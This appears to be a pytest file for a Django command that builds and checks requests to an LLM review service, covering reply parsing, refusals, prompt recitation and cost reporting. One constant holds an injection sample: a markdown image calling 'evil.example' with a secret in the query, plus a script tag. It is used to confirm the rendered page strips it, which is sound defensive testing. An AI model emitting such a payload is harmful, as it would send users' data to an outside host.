"""`manage.py assistant_request`: what is sent, to the letter, and what becomes of a reply."""

import json
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from assistant.facts.rubric import Criterion
from assistant.model.prompts import text_of
from assistant.models import Call, Review
from assistant.reviews.services import request_review
from classrooms.models import Seat
from experiments.models import Experiment
from tests import factories
from tests.assistant.anthropic_server import Act, AnthropicServer
from tests.work import do_next

# Real transactions: the thread that keeps a lease has a connection of its own.
pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = "![x](https://evil.example/?q=secret) <script>alert(1)</script>"


@pytest.fixture
def experiment() -> Experiment:
    member: Seat = factories.join(factories.make_dojo(), "amina")
    submitted = factories.submit(member, "logistic_regression", rationale="so")
    factories.finish(submitted)
    return Experiment.objects.get(pk=submitted.pk)


def run(experiment: Experiment, *arguments: str) -> Any:
    out = StringIO()
    call_command("assistant_request", experiment.public_id, *arguments, stdout=out)
    return json.loads(out.getvalue())


def reply(points: int = 3, **texts: str) -> str:
    scores = [{"criterion": one, "points": points, "reason": "Clear."} for one in Criterion]
    said = {"strength": "Clear.", "question": "Why?", "suggestion": "Look."} | texts
    return json.dumps({"scores": scores} | said)


def replied(experiment: Experiment, folder: Path, text: str) -> Any:
    path = folder / "reply.json"
    path.write_text(text)
    return run(experiment, "--reply", str(path))


def test_it_prints_what_the_service_would_get(
    experiment: Experiment, anthropic_server: AnthropicServer
) -> None:
    anthropic_server.will(Act(reply()))
    request_review(experiment, "results")  # type: ignore[arg-type]
    assert do_next(Review)
    assert run(experiment) == anthropic_server.requests[0]
    assert len(anthropic_server.requests) == 1, "the command sends nothing"


def test_a_reply_is_kept_within_what_the_rules_know(experiment: Experiment, tmp_path: Path) -> None:
    told = replied(experiment, tmp_path, reply(3))
    points = {score["criterion"]: score["points"] for score in told["content"]["scores"]}
    assert (told["source"], told["fallback"]) == ("model", "")
    assert points["errors"] is None, "not due"
    assert "language model, within the facts that the rules know" in told["html"]
    assert Call.objects.count() == 0


def test_a_whole_message_of_the_service_is_a_reply_too(
    experiment: Experiment, tmp_path: Path
) -> None:
    message = {
        "id": "msg_1",
        "type": "message",
        "role": "assistant",
        "model": "claude-sonnet-5-5",
        "content": [{"type": "text", "text": reply(1)}],
        "stop_reason": "refusal",
        "stop_sequence": None,
        "usage": {"input_tokens": 1, "output_tokens": 1},
    }
    assert replied(experiment, tmp_path, json.dumps(message))["fallback"] == "refused"
    message["stop_reason"] = "end_turn"
    assert replied(experiment, tmp_path, json.dumps(message))["source"] == "model"


@pytest.mark.parametrize("broken", ["Well done!", "[]", '{"scores": []}', reply(7)])
def test_a_reply_that_breaks_the_type_leaves_the_rules(
    experiment: Experiment, tmp_path: Path, broken: str
) -> None:
    told = replied(experiment, tmp_path, broken)
    assert (told["source"], told["fallback"]) == ("rules", "broken_reply")
    assert "could not be read" in told["html"]


def test_nothing_in_a_reply_is_live_on_the_page(experiment: Experiment, tmp_path: Path) -> None:
    html = replied(experiment, tmp_path, reply(question=HOSTILE))["html"]
    assert "evil.example" in html
    assert "<script" not in html
    assert "<img" not in html
    assert "href" not in html


def test_a_reply_that_recites_its_prompt_leaves_the_rules(
    experiment: Experiment, tmp_path: Path
) -> None:
    recited = text_of("coach", "en")[:390]
    told = replied(experiment, tmp_path, reply(suggestion=recited))
    assert (told["source"], told["fallback"]) == ("rules", "off_topic")
    assert "senior machine-learning engineer" not in told["html"]


def test_an_unknown_experiment_or_file_is_said(experiment: Experiment, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="no experiment"):
        call_command("assistant_request", "nobody")
    with pytest.raises(CommandError, match="cannot be read"):
        run(experiment, "--reply", str(tmp_path / "missing"))


def test_a_server_is_tried_and_its_cost_and_what_it_misses_are_printed(
    experiment: Experiment, anthropic_server: AnthropicServer
) -> None:
    anthropic_server.will(
        Act("Sure!"), Act(reply(2, strength="Your #1 reaches 0.83.")), Act("It is 0.84. Why?")
    )
    told = run(experiment, "--send")
    assert told["conversation"] == "It is 0.84. Why?"
    assert float(told["cost"]) > 0
    assert told["misses"][0].startswith("Feedback: only the second reply was JSON")
    assert any("number (0.83)" in miss for miss in told["misses"])
    assert any("Conversation: number (0.84)" in miss for miss in told["misses"])
    assert Call.objects.count() == Review.objects.count() == 0, "nothing is stored"
